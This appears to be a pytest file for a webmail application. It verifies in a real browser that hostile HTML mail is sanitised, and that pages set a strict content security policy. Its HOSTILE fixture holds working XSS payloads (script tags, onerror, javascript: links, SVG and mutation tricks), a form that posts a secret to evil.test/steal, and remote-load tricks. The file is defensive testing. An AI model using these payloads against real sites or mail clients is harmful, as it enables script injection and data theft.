"""Hostile HTML mail shown in a real browser runs nothing and loads nothing from outside."""

import hashlib
import struct
import zlib

import pytest

from pouch.records import Attachment, MessageRecord
from tests.appliance.test_browser import open_message, sign_in

# Each payload sets window.__pwned, opens a dialog or logs "PWNED" if any script of it runs,
# and points at evil.test for anything it would load.
HOSTILE = {
    "script tag": "<script>window.__pwned=1;alert('script')</script>",
    "onerror": "<img src=x onerror=\"window.__pwned=1;alert('onerror')\">",
    "javascript link": "<a href=\"javascript:window.__pwned=1;alert('link')\" id=jslink>click me</a>",
    "encoded javascript link": "<a href=\"&#106;avascript:window.__pwned=1\" id=jslink2>enc</a>",
    "svg": "<svg onload=\"window.__pwned=1\"><script>alert('svg')</script>"
           "<image href=\"http://evil.test/svg.png\"/></svg>",
    "css tricks": "<div style=\"background:url(http://evil.test/css.png)\">css</div>"
                  "<style>@import url(http://evil.test/x.css);body{background:url(http://evil.test/b.png)}"
                  "</style><link rel=stylesheet href=http://evil.test/l.css>",
    "form": "<form action=\"http://evil.test/steal\"><input name=p value=secret>"
            "<button id=steal>Go</button></form>",
    "meta refresh": "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.test/refresh\">",
    "iframe and object": "<iframe src=\"http://evil.test/frame\"></iframe>"
                         "<object data=\"http://evil.test/o.swf\"></object><embed src=\"http://evil.test/e\">",
    "remote image": "<img src=\"http://evil.test/track.png\" width=1 height=1>",
    "base": "<base href=\"http://evil.test/\"><img src=\"relative.png\">",
    "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned=1\">",
    "body onload": "<body onload=\"window.__pwned=1\"><video><source onerror=\"window.__pwned=1\">"
                   "</video>",
    "inline image": "<p>Logo:</p><img id=logo src=\"cid:logo@sender\" alt=logo>",
}


def tiny_png():
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def deliver_hostile_mail(store):
    png = tiny_png()
    digest = hashlib.sha256(png).digest()
    for number, (name, body) in enumerate(HOSTILE.items()):
        store.deliver_incoming(MessageRecord(
            id=f"hostile-{number}", from_=[("Mallory", "mallory@evil.test")],
            to=[("", "victim@box.test")], subject="Hostile mail", date=1700000000 + number,
            message_id=f"h{number}@evil.test", body=f"<div>{name}: {body} end of {name}</div>",
            body_type="html", recipients=["victim@box.test"],
            attachments=[Attachment("logo.png", "image/png", len(png), digest, cid="logo@sender",
                                    inline=True)] if name == "inline image" else []),
            {digest: png})


def watch(page, box_url):
    """Record every request leaving the box, dialogs and console messages of the page."""
    seen = {"outside": [], "dialogs": [], "console": []}

    def route(request_route):
        if request_route.request.url.startswith(box_url):
            request_route.continue_()
        else:
            seen["outside"].append(request_route.request.url)
            request_route.abort()

    page.route("**/*", route)
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: seen["console"].append(message.text))
    return seen


def test_hostile_html_runs_nothing_and_loads_nothing(new_page, make_user, store, box_url):
    make_user("victim")
    deliver_hostile_mail(store)
    page = new_page()
    seen = watch(page, box_url)
    sign_in(page, "victim")
    open_message(page, "Hostile mail")
    assert page.locator(".message").count() == len(HOSTILE)
    for name in HOSTILE:  # every message is shown, the harmless text of each kept
        assert page.get_by_text(f"end of {name}").count() == 1
    page.locator("#jslink, a:has-text('click me')").first.click()
    page.locator("a:has-text('enc')").first.click()
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert seen["dialogs"] == []
    assert seen["outside"] == []
    assert page.url.startswith(box_url + "/thread/")  # no refresh, no navigation away
    assert page.locator(".mail-body form, .mail-body iframe, .mail-body svg, .mail-body style,"
                        ".mail-body script, .mail-body object, .mail-body [style]").count() == 0
    # The inline image came from the box and shows.
    logo = page.locator(".mail-body img[alt=logo]")
    assert logo.get_attribute("src").startswith("/message/")
    assert page.evaluate("document.querySelector('.mail-body img[alt=logo]').naturalWidth") == 1


@pytest.mark.parametrize("path", ["/", "/login"])
def test_every_page_carries_a_strict_content_security_policy(client, path):
    response = client().get(path)
    policy = response.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "script-src 'self'" in policy
    assert "unsafe-inline" not in policy
